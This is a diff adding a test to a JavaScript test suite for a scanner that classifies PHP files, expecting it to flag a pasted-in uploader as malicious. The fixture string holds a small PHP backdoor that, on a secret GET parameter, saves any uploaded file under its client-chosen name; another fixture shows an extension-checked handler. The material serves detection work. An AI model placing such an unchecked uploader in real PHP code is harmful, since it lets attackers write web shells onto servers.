@@ -216,3 +216,12 @@ test('PHP: in an application file, the client file name in one function is not t
   const small = `<?php\n$id = basename($_FILES['upload']['name']);\n$newf = './files/' . $id;\ncopy($_FILES['upload']['tmp_name'], $newf);\n`;
   assert.notEqual(verdict('up.php', small), 'clean');
 });
+
+test('PHP: an uploader pasted into an application file is unchecked when the checks there look at something else', () => {
+  const pasted = `<?php\nif ($_GET['k'] == 'up') {\n  if (@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) echo 'ok';\n}\n$alias = $_GET['api'] ?? 'soap';\nif (in_array($alias, ['soap', 'rest'], true)) { run_api($alias); }\n`;
+  const f = findingOf('api.php', pasted);
+  assert.equal(f?.verdict, 'malicious', JSON.stringify(reasons(f)));
+  // a check of the upload's own extension keeps it an upload handler
+  const checked = `<?php\n$ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));\nif (!in_array($ext, ['jpg', 'png'], true)) exit('type');\nmove_uploaded_file($_FILES['f']['tmp_name'], 'up/' . bin2hex(random_bytes(8)) . '.' . $ext);\n`;
+  assert.notEqual(verdict('up.php', checked), 'malicious');
+});
